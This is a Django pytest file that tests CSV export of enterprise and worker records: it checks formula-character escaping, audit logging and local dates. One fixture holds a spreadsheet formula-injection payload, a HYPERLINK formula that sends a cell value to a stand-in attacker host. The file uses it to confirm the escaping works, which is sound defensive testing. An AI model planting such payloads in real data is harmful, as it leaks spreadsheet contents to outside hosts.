import csv
import io

import pytest
from django.urls import reverse

from accounts import services
from accounts.models import Role
from core.exports import spreadsheet_safe
from core.models import AuditEvent
from tests.factories import EnterpriseFactory, UserFactory, WorkerProfileFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_defused(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["杭州", "138", 42, None])
def test_other_values_pass_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_exported_cells_cannot_run_as_formulas_and_the_export_is_audited(client):
    bureau = UserFactory()
    services.role_grant(user=bureau, role=Role.BUREAU_OFFICER, actor=None)
    EnterpriseFactory(name='=HYPERLINK("http://evil.example/?"&B2,"点我")')
    client.force_login(bureau)
    response = client.get(reverse("accounts:enterprise_directory"), {"_export": "csv", "q": "="})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0].startswith("'=HYPERLINK")
    event = AuditEvent.objects.get(verb="export.enterprises")
    assert event.actor == bureau
    assert event.after == {"format": "csv", "filters": {"q": "="}}


def test_export_dates_are_local_dates(client, settings):
    bureau = UserFactory()
    services.role_grant(user=bureau, role=Role.BUREAU_OFFICER, actor=None)
    worker = WorkerProfileFactory()
    client.force_login(bureau)
    response = client.get(reverse("accounts:worker_roster"), {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    from django.utils import timezone

    assert rows[1][-1] == timezone.localdate(worker.created_at).isoformat()
